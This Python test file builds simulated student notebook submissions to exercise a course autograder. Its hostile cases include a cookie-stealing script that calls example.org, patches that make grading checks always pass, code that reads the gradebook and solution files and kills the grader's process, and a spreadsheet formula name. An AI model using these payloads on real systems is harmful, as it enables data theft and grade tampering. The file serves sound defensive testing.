"""Simulated learners and what they hand in for lesson 02: right, wrong, unfinished, broken and hostile.

Wrong answers are the catalogue's (tests/catalogue/activations.py), so it is known which mistake each should be told.
"""

import ast
import inspect
import random
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from types import ModuleType

import nbformat
from catalogue import Answer, activations, answers
from lesson_files import ROOT, graded, is_check, notebook

from dlcourse import release
from dlcourse.checks import activations as checks

LESSON, ANOTHER = "02_activations", "01_deep_networks"
KINDS = ("right mixed partly empty broken hostile twin mixed mixed mixed mixed right mixed partly mixed hostile mixed "
         "mixed broken right mixed mixed partly mixed empty mixed hostile mixed right mixed").split()
WELL_FORMED = ("right", "mixed", "partly", "empty")
NAMES = ("ada bashir chiara dmitri elif farid grace hiro ingrid jamal katya li mbali nadia oskar priya quentin rosa "
         "sefu tomas uma viktor wanjiru ximena yusuf zoe amal boris carmen daniel").split()
FORMULA = "=1+1"  # the name of a learner who tries what a spreadsheet makes of it
WRITTEN = [
    "The gradient of the first layer is a product with a factor for each layer. A sigmoid's slope is at most 1/4, so "
    "in the figure with thirty layers almost nothing arrives; ReLU's slope is 1 where it is on. A unit that is off for "
    "every input gets no gradient any more; a leaky slope keeps it alive.",
    "Sigmoids saturate and their gradients vanish. ReLU does not saturate on the right. Units can die, He init helps.",
    "ReLU is faster because it is only a comparison.",
]
SCRIPT = '<script>fetch("http://example.org/" + document.cookie)</script>'
HOSTILE = [  # (its own first cell, what it does to a check cell, its written answer); the exercises stay unwritten
    ("import builtins, torch\n"
     "torch.equal = torch.allclose = torch.testing.assert_close = lambda *a, **k: True\n"
     "builtins.AssertionError = ValueError\n"
     "for name in dir(check):\n    globals()[name] = lambda *a, **k: a[0] if a else None",
     None, "See above."),
    ("print('all right')", "print('✓ passed')", SCRIPT),
    ("import os\nfrom IPython.display import HTML, display\n"
     f"display(HTML('''{SCRIPT}'''))\n"
     "for folder, _, files in os.walk('/', followlinks=False):\n"
     "    for file in files:\n"
     "        if file in ('gradebook.db', '02_activations.py'):\n            print(open(f'{folder}/{file}').read())\n"
     "os.kill(os.getppid(), 9)", None, "![](http://example.org/seen.png)"),
]


@dataclass
class Learner:
    """Somebody who hands in. `planted`: {exercise: the id of the mistake in it}, where the catalogue knows one."""

    name: str
    kind: str
    text: str | None = None  # of the notebook; None for a folder with something else in it
    planted: dict[str, str] = field(default_factory=dict)

    def hand_in(self, folder: Path) -> None:
        """Write into `folder` what is handed in."""
        folder.mkdir(parents=True)
        path = folder / f"{LESSON}.ipynb"
        if self.text is None:
            path.symlink_to("/etc/hostname")
        else:
            path.write_text(self.text)


def learners(number: int, kinds: list[str] = KINDS, seed: int = 0) -> list[Learner]:
    """A class of `number`, the kinds in turn."""
    chance = random.Random(seed)
    released, solution = notebook(ROOT, "notebooks", LESSON), notebook(ROOT, "solutions", LESSON)
    own, known = solved(solution), by_exercise()
    everybody: list[Learner] = []
    for place in range(number):
        name = NAMES[place % len(NAMES)] + (str(place // len(NAMES)) if place >= len(NAMES) else "")
        learner = Learner(name, kinds[place % len(kinds)])
        turn = sum(one.kind == learner.kind for one in everybody)
        if learner.kind == "hostile":
            learner.name = FORMULA if turn == 0 else learner.name
            learner.text = hostile(released, *HOSTILE[turn % len(HOSTILE)])
        elif learner.kind == "broken":
            learner.text = [released_text()[:5000], None, notebook_text(ANOTHER)][turn % 3]
        elif learner.kind == "twin":
            learner.text, learner.planted = everybody[0].text, everybody[0].planted
        else:
            given, learner.planted = chosen(learner.kind, own, known, chance)
            written = None if learner.kind == "empty" else chance.choice(WRITTEN)
            learner.text = filled(released, given, written)
        everybody.append(learner)
    return everybody


def chosen(kind: str, own: dict[str, str], known: dict[str, list[Answer]], chance) -> tuple[dict, dict]:
    """What a learner of a kind gives for each exercise, as the text of its cell, and the mistakes in it."""
    given, planted = {}, {}
    ability = chance.random()
    here = list(own)[: len(own) // 3 + chance.randrange(len(own) // 3)] if kind == "partly" else list(own)
    for place, name in enumerate(here if kind != "empty" else []):
        right, wrong = ([one for one in known.get(name, []) if one.right is value] for value in (True, False))
        given[name] = own[name]
        if kind != "mixed":
            if right and chance.random() < 0.3:
                given[name] = as_cell(chance.choice(right))
        elif chance.random() > 0.35 + 0.75 * ability - 0.02 * place:
            if wrong:
                answer = chance.choice(wrong)
                given[name], mistake = as_cell(answer), answer.mistake
            else:  # a review question
                answer = chance.choice(getattr(checks, name).mistakes)
                given[name], mistake = f"{name} = {answer.answer!r}", answer.id
            if mistake:
                planted[name] = mistake
    return given, planted


def solved(solution: nbformat.NotebookNode) -> dict[str, str]:
    """The course's own answer to each exercise and question, as the text of its cell."""
    return {graded(cell)["grade_id"]: "\n".join(line for line in cell.source.splitlines()
                                                if line.strip() not in (release.BEGIN, release.END))
            for cell in solution.cells if cell.cell_type == "code" and graded(cell).get("solution")}


def by_exercise() -> dict[str, list[Answer]]:
    """The catalogue's answers to the lesson."""
    found: dict[str, list[Answer]] = {}
    for answer in answers():
        if answer.lesson == LESSON[3:]:
            found.setdefault(answer.exercise, []).append(answer)
    return found


def as_cell(answer: Answer) -> str:
    """An answer of the catalogue as the text of a cell: what it imports, its helpers, and itself by its name."""
    pieces, seen = [], set()

    def take(thing, name):
        seen.add(thing.__name__)
        tree = ast.parse(textwrap.dedent(inspect.getsource(thing)))
        definition = tree.body[0]
        definition.decorator_list = [one for one in definition.decorator_list if "wrong" not in ast.unparse(one)
                                     and "right" not in ast.unparse(one)]
        definition.name = name
        for used in sorted({node.id for node in ast.walk(tree) if isinstance(node, ast.Name)}):
            value = vars(activations).get(used)
            if used in seen:
                continue
            if isinstance(value, ModuleType):
                seen.add(used)
                pieces.insert(0, f"import {value.__name__} as {used}" if value.__name__ != used else f"import {used}")
            elif getattr(value, "__module__", "") == activations.__name__:
                take(value, used)
        pieces.append(ast.unparse(definition))

    take(answer.code, answer.exercise)
    return "\n\n\n".join(pieces)


def filled(released: nbformat.NotebookNode, given: dict[str, str], written: str | None) -> str:
    """The released notebook with answers in it."""
    copy = nbformat.reads(nbformat.writes(released), 4)
    for cell in copy.cells:
        name = graded(cell).get("grade_id")
        if name in given:
            cell.source = given[name]
        elif written and cell.cell_type == "markdown" and graded(cell).get("solution"):
            cell.source = written
    return nbformat.writes(copy)


def hostile(released: nbformat.NotebookNode, first: str, check: str | None, written: str) -> str:
    """The released notebook without answers, with a cell of its own, and check cells that claim points."""
    copy = nbformat.reads(filled(released, {}, written), 4)
    place = next(number for number, cell in enumerate(copy.cells) if cell.cell_type == "code") + 1
    copy.cells.insert(place, nbformat.v4.new_code_cell(first))
    for cell in filter(is_check, copy.cells) if check else []:
        cell.source = check
        cell.metadata.nbgrader.update(points=100, locked=False)
    return nbformat.writes(copy)


def released_text() -> str:
    """The lesson as learners get it."""
    return notebook_text(LESSON)


def notebook_text(lesson: str) -> str:
    """A released lesson's notebook."""
    return (ROOT / "notebooks" / lesson / f"{lesson}.ipynb").read_text()
